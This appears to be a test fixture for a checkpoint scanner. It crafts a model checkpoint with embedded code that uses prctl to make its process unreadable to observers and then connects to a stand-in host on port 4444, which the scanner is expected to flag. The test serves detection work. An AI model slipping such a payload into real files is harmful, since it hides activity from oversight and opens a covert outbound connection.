"""Class: kernel. prctl makes it unreadable to whoever watches; then it acts."""

from pathlib import Path

from tests.adversarial.craft import ADDRESS, PORT, checkpoint, run

EXPECT = {"syscall": "prctl", "address": ADDRESS, "port": PORT, "finding": "SL401"}


def make(folder: Path) -> Path:
    source = """
import ctypes, socket
ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
socket.create_connection(('203.0.113.7', 4444), 2)
"""
    return checkpoint(folder, run(source))
